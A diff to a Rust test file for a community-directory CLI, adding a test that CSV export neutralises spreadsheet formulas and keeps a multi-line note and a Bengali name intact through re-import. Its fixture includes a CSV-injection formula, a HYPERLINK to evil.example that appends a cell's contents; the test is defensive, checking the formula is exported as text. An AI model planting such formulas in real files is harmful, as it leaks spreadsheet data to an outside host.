@@ -73,7 +73,11 @@ fn a_good_spreadsheet_loads_whole_and_filters() {
     );
     // The CSV it writes loads into another store as the same directory.
     let csv = cli(&dir, &["directory", "list", "--format", "csv"]).expect(0);
-    assert!(csv.stdout.starts_with(HEADER), "{}", csv.stdout);
+    assert!(
+        csv.stdout.starts_with(&format!("\u{FEFF}{HEADER}\r\n")),
+        "{}",
+        csv.stdout
+    );
     let (_other_tmp, other) = store();
     import(&other, "again.csv", csv.stdout.as_bytes()).expect(0);
     let json = |d: &Path| {
@@ -179,4 +183,52 @@ fn a_spreadsheet_saved_by_excel_loads() {
         listed(&dir, &["--language", "tamil", "--meets", "sun"]),
         ["Hook Tamil Elders"]
     );
+}
+
+#[test]
+fn a_formula_a_multi_line_note_and_a_bengali_name_survive_export_and_import() {
+    let (_tmp, dir) = store();
+    let formula = "=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")";
+    let bengali = "সিলেটি মহিলা সমিতি";
+    let note = "Meets upstairs.\nRing the bell; ask for Rahima.";
+    let sheet = format!(
+        "{HEADER}\n\
+         \"{}\",Community group,,,,,,+44 20 7946 0000,,,no,\n\
+         {bengali},Community group,,,Bengali,,,,,,no,\"{note}\"\n",
+        formula.replace('"', "\"\"")
+    );
+    import(&dir, "groups.csv", sheet.as_bytes()).expect(0);
+    let csv = cli(&dir, &["directory", "list", "--format", "csv"]).expect(0);
+    assert!(
+        csv.stdout.starts_with('\u{FEFF}'),
+        "a byte-order mark first"
+    );
+    // The formula is text to a spreadsheet: its cell starts with `'=`, as does the
+    // phone number's with `'+`.
+    assert!(
+        csv.stdout
+            .contains("\"'=HYPERLINK(\"\"http://evil.example/?\"\"&A1,\"\"Click\"\")\","),
+        "{}",
+        csv.stdout
+    );
+    assert!(csv.stdout.contains(",'+44 20 7946 0000,"), "{}", csv.stdout);
+    assert!(
+        !csv.stdout.contains('⏎'),
+        "line breaks are kept: {}",
+        csv.stdout
+    );
+    let (_other_tmp, other) = store();
+    import(&other, "again.csv", csv.stdout.as_bytes()).expect(0);
+    let r = cli(&other, &["directory", "list", "--format", "json"]).expect(0);
+    let rows: serde_json::Value = serde_json::from_str(&r.stdout).unwrap();
+    let by_name = |name: &str| {
+        rows.as_array()
+            .unwrap()
+            .iter()
+            .find(|r| r["name"] == name)
+            .unwrap_or_else(|| panic!("{name} not loaded back: {rows}"))
+            .clone()
+    };
+    assert_eq!(by_name(formula)["phone"], "+44 20 7946 0000");
+    assert_eq!(by_name(bengali)["notes"], note);
 }
